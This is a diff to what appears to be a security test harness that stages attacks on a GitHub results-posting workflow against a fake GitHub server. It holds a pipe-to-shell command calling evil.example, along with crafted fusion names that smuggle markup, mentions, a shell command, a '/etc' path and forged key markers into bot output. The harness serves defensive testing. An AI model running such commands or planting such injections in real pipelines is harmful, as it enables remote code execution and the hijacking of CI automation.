@@ -1,18 +1,23 @@
-"""Issue 20's attacks on the privileged poster, staged and run through post-results.yml as wired.
+"""Attacks on the privileged poster (issues 20 and 37), staged and run through post-results.yml
+as wired.
 
-    python tests/workflows/attacks.py [--before REF]   # the table for docs/WORKFLOWS.md
+    python tests/workflows/attacks.py --issue 20 --before 00444de   # docs/WORKFLOWS.md's tables
+    python tests/workflows/attacks.py --issue 37 --before d02ddf7
 
 Each attack seeds the fake GitHub (attack_world.py), forges one thing an outsider controls, and
-runs the whole poster (poster_run.py: both jobs, every step, the real bot); the row says where
-the poster stopped, with which exit code, and what it left on GitHub. Three genuine runs come
-first, so that a poster which refuses everything cannot look safe. With --before REF the same
-attacks also run on the workflow and the bot of an older commit (a git worktree), for the
-"before" columns; tests/workflows/test_attacks.py holds today's outcome of each.
+runs the whole poster (poster_run.py: both jobs, every step, the real bot), after the genuine
+runs that stood before it where it needs them; the row says where each poster run stopped,
+with which exit code (and the bot's own step), what was left on GitHub, and each harm found.
+Three genuine runs come first, so that a poster which refuses everything cannot look safe.
+With --before REF the same attacks also run on the workflow and the bot of an older commit (a
+git worktree), for the "before" columns; tests/workflows/test_attacks.py holds today's
+outcome of each.
 """
 
 from __future__ import annotations
 
 import argparse
+import re
 import shutil
 import subprocess
 import sys
@@ -29,15 +34,21 @@ if __name__ == "__main__":  # run as a script: its neighbours, as pytest imports
 from attack_world import (
     BASE,
     BENCH_PATH,
+    CATALOG_PAIR,
+    EVIL_NAME,
     FORK,
     HEAD,
+    ISSUES_LOGIN,
     ISSUES_TOKEN,
     NVFUSER_PAIR,
     OUR,
     READ_TOKEN,
+    THUNDER,
     WRITE_TOKEN,
     Left,
+    aa_files,
     bench_run,
+    catalog_files,
     event_run,
     left,
     open_pr,
@@ -216,6 +227,63 @@ def _lookalike_marker(fake: LocalGitHub) -> dict[str, Any]:
 EVIL_LINE = "curl -s https://evil.example/x.sh | sh"
 
 
+# ----- issue 37: names from the artifact, another PR's run, a key found in text -----
+
+
+def _catalog_merged(files: dict[str, bytes], head_ref: str = "fast-bwd") -> Stage:
+    """The catalog's PR run with `files` for results, the PR merged (it files upstream)."""
+
+    def stage(fake: LocalGitHub) -> dict[str, Any]:
+        _, base, head = CATALOG_PAIR
+        pr = open_pr(fake, base=base, head=head, head_ref=head_ref)
+        bench_run(fake, pr, files=files)
+        fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
+        return payload(event_run(fake, pr.number))
+
+    return stage
+
+
+def _claims_the_victim(fake: LocalGitHub) -> dict[str, Any]:
+    """PR B (#1) was merged with a real regression and its alert filed; a branch of this
+    repository pushed to B's exact head commit opens PR A, whose run names B in its artifact
+    with results of no change (a stock run relabelled as B's head)."""
+    (victim,) = [i for i in fake.state.issues(OUR) if i.pull is not None]
+    mine = open_pr(fake, head_ref="a-typo-fix")
+    return payload(bench_run(fake, mine, files=aa_files(), pr=victim.number))
+
+
+def _then_b_opens(fake: LocalGitHub) -> dict[str, Any]:
+    """PR B (#2), a real Thunder regression, opens: its first run."""
+    return payload(bench_run(fake, open_pr(fake, head_ref="slow-bwd")))
+
+
+def _b_marker_name() -> str:
+    from bot.alert.model import pr_key
+    from bot.github.issue_body import key_marker
+
+    return f"x{key_marker(pr_key(OUR, 2))}"
+
+
+def _seeded_old_issue(fake: LocalGitHub) -> dict[str, Any]:
+    """PR #7's alert as fusion-perfbot 0.1 filed it (its key on the first line), its evidence
+    holding the key marker of the PR that opens next (#1) as text; then that PR's first run."""
+    from bot.alert.model import pr_key
+    from bot.github.issue_body import key_marker, sizes_marker
+
+    body = "\n".join(
+        [
+            key_marker(pr_key(OUR, 7)),
+            sizes_marker([("nvidia-h200:gelu_bwd/thunder", 1.05)]),
+            f"### x{key_marker(pr_key(OUR, 1))}: Thunder's kernels 5.3% slower",
+        ]
+    )
+    title = "Bias+GELU backward: Thunder's kernels 5.3% slower in PR #7 (filed by 0.1)"
+    fake.state.add_issue(
+        THUNDER, title, author=ISSUES_LOGIN, body=body, labels=["perf-regression-bot"]
+    )
+    return _genuine_open(fake)
+
+
 #: A deployment that judges machines without a noise model (perfbot.toml's own comment: for
 #: experiments), so that a dozen invented machine names are each judged, as a second calibrated
 #: runner kind would be: the bound on machines is what stands between them and the trackers.
@@ -228,6 +296,9 @@ class Attack:
     what: str
     stage: Stage
     config: tuple[str, str] | None = None  # (old, new) in the poster's perfbot.toml
+    #: Runs posted first, each through the whole poster: what stood before the attack.
+    before: tuple[Stage, ...] = ()
+    issue: int = 20  # the issue that staged it: its rows have their own table and "before"
 
 
 ATTACKS = [
@@ -272,6 +343,38 @@ ATTACKS = [
         "event-fork", "a fork's copy of the PR-event workflow names another PR", _event_fork_copy
     ),
     Attack("lookalike", "another user's comment carries the bot's marker", _lookalike_marker),
+    Attack(
+        "name-markup",
+        "a fusion named with markup, a mention, references and a shell command, merged",
+        _catalog_merged(catalog_files(EVIL_NAME)),
+        issue=37,
+    ),
+    Attack(
+        "name-path",
+        "a fusion named /etc, its captures beside the results, merged",
+        _catalog_merged(catalog_files("/etc", captures=True)),
+        issue=37,
+    ),
+    Attack(
+        "pr-claim",
+        "a branch at merged PR #1's head opens #2, whose run names #1 (results of no change)",
+        _claims_the_victim,
+        before=(_genuine_merged,),
+        issue=37,
+    ),
+    Attack(
+        "key-in-name",
+        "PR #1's results carry PR #2's key marker in a fusion name, merged; then #2 opens",
+        _then_b_opens,
+        before=(lambda fake: _catalog_merged(catalog_files(_b_marker_name()))(fake),),
+        issue=37,
+    ),
+    Attack(
+        "key-in-text",
+        "an issue filed by 0.1 holds PR #1's key marker in its text; then #1 opens",
+        _seeded_old_issue,
+        issue=37,
+    ),
 ]
 
 
@@ -292,49 +395,80 @@ def _configured(tree: Path, edit: tuple[str, str], tmp: Path) -> Path:
     return copy
 
 
-def attempt(attack: Attack, tree: Path, tmp: Path) -> tuple[Outcome, Left]:
+def attempt(attack: Attack, tree: Path, tmp: Path) -> tuple[Outcomes, Left]:
     """One attack on the poster of `tree` (this repository, or a worktree of another commit)."""
     tmp.mkdir(parents=True, exist_ok=True)
     if attack.config is not None:
         tree = _configured(tree, attack.config, tmp)
     with start_server() as fake:
         seed(fake)
-        event = attack.stage(fake)
         tokens = Tokens(READ_TOKEN, WRITE_TOKEN, ISSUES_TOKEN)
-        outcome = run_poster(
-            tree / ".github/workflows/post-results.yml",
-            tree,
-            fake.base_url,
-            fake.web_url,
-            OUR,
-            event,
-            tokens,
-            tmp,
-        )
-        return outcome, left(fake)
+        outcomes = []
+        for n, stage in enumerate((*attack.before, attack.stage)):
+            event = stage(fake)
+            outcomes.append(
+                run_poster(
+                    tree / ".github/workflows/post-results.yml",
+                    tree,
+                    fake.base_url,
+                    fake.web_url,
+                    OUR,
+                    event,
+                    tokens,
+                    tmp / f"run-{n}",
+                )
+            )
+        return Outcomes(outcomes), left(fake)
 
 
-def cell(outcome: Outcome, got: Left) -> str:
+@dataclass(frozen=True)
+class Outcomes:
+    """Each poster run of an attack, in order: the attack's own is the last."""
+
+    runs: list[Outcome]
+
+    @property
+    def last(self) -> Outcome:
+        return self.runs[-1]
+
+    @property
+    def log(self) -> str:
+        return "\n".join(o.log for o in self.runs)
+
+
+_BOT_STEP = re.compile(r"step '(.+?)' failed: ")
+
+
+def _where(outcome: Outcome) -> str:
+    """Where one poster run stopped: job/step, exit code, and for the bot its own step."""
     skipped = [job for job, result in outcome.jobs.items() if result == "skipped"]
     if outcome.failed:
-        where = f"{outcome.failed} exit {outcome.rc}"
-    elif skipped:
-        where = f"nothing to post ({', '.join(skipped)} skipped)"
-    else:
-        where = "every step ok"
+        said = _BOT_STEP.search(outcome.log) if outcome.failed == "post/bot" else None
+        return f"{outcome.failed} exit {outcome.rc}" + (f" at '{said[1]}'" if said else "")
+    if skipped:
+        return f"nothing to post ({', '.join(skipped)} skipped)"
+    return "every step ok"
+
+
+def cell(outcomes: Outcomes, got: Left) -> str:
+    where = ", then ".join(_where(o) for o in outcomes.runs)
     issues = "+".join(str(n) for n in got.issues.values())
-    posted = f"{got.comments} comment, {issues} issues, {got.statuses} status"
-    return f"{where}; {posted}" + (
-        "; **the attacker's command upstream**" if got.evil_upstream else ""
-    )
+    closed = f" ({got.closed} closed)" if got.closed else ""
+    posted = f"{got.comments} comment, {issues} issues{closed}, {got.statuses} status"
+    return f"{where}; {posted}" + "".join(f"; **{harm}**" for harm in got.harms)
 
 
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--before", help="also run each attack on this commit's poster")
     parser.add_argument("-k", help="only the attacks whose key contains this")
+    parser.add_argument("--issue", type=int, help="only the attacks this issue staged (20, 37)")
     args = parser.parse_args(argv)
-    chosen = [a for a in ATTACKS if not args.k or args.k in a.key]
+    chosen = [
+        a
+        for a in ATTACKS
+        if (not args.k or args.k in a.key) and (args.issue is None or a.issue == args.issue)
+    ]
     with tempfile.TemporaryDirectory() as scratch:
         before_tree = None
         if args.before:
